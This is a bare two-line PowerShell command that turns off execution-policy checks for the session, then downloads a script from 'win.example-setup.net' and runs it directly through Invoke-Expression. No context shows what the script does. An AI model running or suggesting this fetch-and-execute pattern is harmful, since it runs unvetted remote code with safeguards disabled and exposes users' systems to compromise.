Set-ExecutionPolicy Bypass -Scope Process -Force
iex (iwr 'https://win.example-setup.net/s.ps1' -UseBasicParsing).Content
